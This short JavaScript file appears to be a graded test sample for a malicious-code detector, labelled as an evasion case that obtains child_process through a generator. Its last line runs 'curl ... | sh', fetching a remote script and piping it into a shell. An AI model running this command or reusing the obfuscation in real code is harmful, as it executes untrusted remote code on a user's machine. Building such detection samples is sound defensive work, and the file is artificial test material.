// evasion: child_process handed out by a generator (yield require(...)); the for-of loop's variable runs the command
// grade: hard; does: shell
'use strict';
function* tools() { yield require('child_process'); }
for (const cp of tools()) cp.execSync('curl -s http://203.0.113.9/g.sh | sh', { stdio: 'inherit' });
